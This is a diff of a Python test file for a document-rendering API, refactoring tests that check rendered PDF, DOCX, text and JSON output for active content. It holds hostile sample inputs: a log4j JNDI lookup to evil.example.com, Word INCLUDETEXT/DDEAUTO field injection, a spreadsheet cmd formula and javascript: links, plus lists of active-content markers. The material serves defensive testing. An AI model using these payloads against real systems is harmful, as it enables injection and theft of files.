@@ -2,9 +2,7 @@
 
 from __future__ import annotations
 
-import re
 import zipfile
-import zlib
 from io import BytesIO
 
 import pytest
@@ -13,6 +11,7 @@ from hypothesis import strategies as st
 
 from api.rendering import Format, Letter, Options, UnknownTemplateError, render, templates
 from api.rendering.readback import read_back
+from e2e.attacks.inert import active_parts
 
 NAMES = [template.name for template in templates()]
 HOSTILE = (
@@ -27,21 +26,6 @@ HOSTILE = (
     "{ INCLUDETEXT C:\\\\secrets.txt } DDEAUTO",
     "${jndi:ldap://evil.example.com/a} {{7*7}} %s %n",
 )
-ACTIVE_PDF = (
-    b"/JavaScript",
-    b"/JS",
-    b"/OpenAction",
-    b"/AA",
-    b"/Launch",
-    b"/SubmitForm",
-    b"/ImportData",
-    b"/GoToR",
-    b"/EmbeddedFile",
-    b"/AcroForm",
-    b"/RichMedia",
-    b"/XFA",
-)
-ACTIVE_DOCX = ("fldChar", "fldSimple", "instrText", "altChunk", "w:object", "w:drawing", "attached")
 
 
 def hostile_resume():
@@ -68,59 +52,45 @@ def hostile_resume():
     }
 
 
-def pdf_objects(data: bytes) -> bytes:
-    """Return what is outside content streams, with object streams inflated."""
-    streams = re.findall(
-        rb"<<([^>]*?/Type ?/ObjStm[^>]*)>>\s*stream\r?\n(.*?)endstream", data, re.DOTALL
-    )
-    outside = re.sub(rb"stream\r?\n.*?endstream", b"", data, flags=re.DOTALL)
-    return outside + b"".join(zlib.decompress(body) for _, body in streams)
-
-
-def without_strings(objects: bytes) -> bytes:
-    """Take out strings from the inside: parentheses may nest in them."""
-    objects = re.sub(rb"\\.", b"", objects, flags=re.DOTALL)
-    count = 1
-    while count:
-        objects, count = re.subn(rb"\([^()]*\)", b"", objects)
-    return objects
-
-
 @pytest.mark.parametrize("name", NAMES)
-def test_a_pdf_holds_no_action_but_web_and_mail_links(name):
-    data = render(hostile_resume(), format="pdf", template=name).data
+@pytest.mark.parametrize("kind", list(Format))
+def test_a_file_holds_nothing_that_acts_and_no_link(name, kind):
+    data = render(hostile_resume(), format=kind, template=name).data
 
-    objects = without_strings(pdf_objects(data))
-
-    assert [mark for mark in ACTIVE_PDF if re.search(re.escape(mark) + rb"\b", objects)] == []
-    assert set(re.findall(rb"/S ?/(URI|GoTo\w*|Launch|JavaScript|Named)\b", objects)) <= {b"URI"}
+    assert active_parts(data, kind) == []
 
 
-def test_the_search_for_active_content_would_find_it():
+def test_the_search_for_active_content_would_find_it_in_a_pdf():
     planted = b"1 0 obj <</OpenAction <</S /JavaScript /JS (app.alert(1))>> >>"
+    linked = b"2 0 obj <</S /URI /URI (https://tracker.example.com/p.png)>>"
 
-    objects = without_strings(pdf_objects(planted))
+    assert active_parts(planted, "pdf") == ["/JavaScript", "/JS", "/OpenAction", "JavaScript"]
+    assert active_parts(linked, "pdf") == ["link: https://tracker.example.com/p.png"]
+    assert active_parts(linked, "pdf", ["https://tracker.example.com/p.png"]) == []
 
-    assert [mark for mark in ACTIVE_PDF if re.search(re.escape(mark) + rb"\b", objects)] == [
-        b"/JavaScript",
-        b"/JS",
-        b"/OpenAction",
+
+def test_the_search_for_active_content_would_find_it_in_a_docx():
+    written = BytesIO()
+    with zipfile.ZipFile(written, "w") as archive:
+        archive.writestr("word/document.xml", "<w:p><w:instrText>INCLUDETEXT</w:instrText></w:p>")
+        archive.writestr("word/vbaProject.bin", "x")
+        archive.writestr("word/_rels/x", '<R Target="file:///etc/passwd" TargetMode="External"/>')
+
+    assert active_parts(written.getvalue(), "docx") == [
+        "instrText",
+        "word/vbaProject.bin",
+        "link: file:///etc/passwd",
     ]
 
 
-@pytest.mark.parametrize("name", NAMES)
-def test_a_docx_holds_no_field_object_or_outside_part(name):
-    data = render(hostile_resume(), format="docx", template=name).data
-
-    archive = zipfile.ZipFile(BytesIO(data))
-
-    marks = re.compile("|".join(f"<[^>]*{mark}" for mark in ACTIVE_DOCX))
-    assert not marks.search(archive.read("word/document.xml").decode())
-    for member in archive.namelist():
-        outside = re.findall(
-            r'Target="([^"]+)" TargetMode="External"', archive.read(member).decode()
-        )
-        assert not [target for target in outside if not target.startswith(("http", "mailto:"))]
+def test_the_search_for_active_content_would_find_it_in_text_and_json():
+    assert active_parts(b"=cmd|'/C calc'!A0\n- a bullet\n+44 20 7946", "text") == [
+        "formula: =cmd|'/C calc'!A0"
+    ]
+    assert active_parts(b'{"url": "javascript:alert(1)", "x": "<b>"}', "json") == [
+        "a tag",
+        "link: javascript:alert(1)",
+    ]
 
 
 @pytest.mark.parametrize("kind", list(Format))
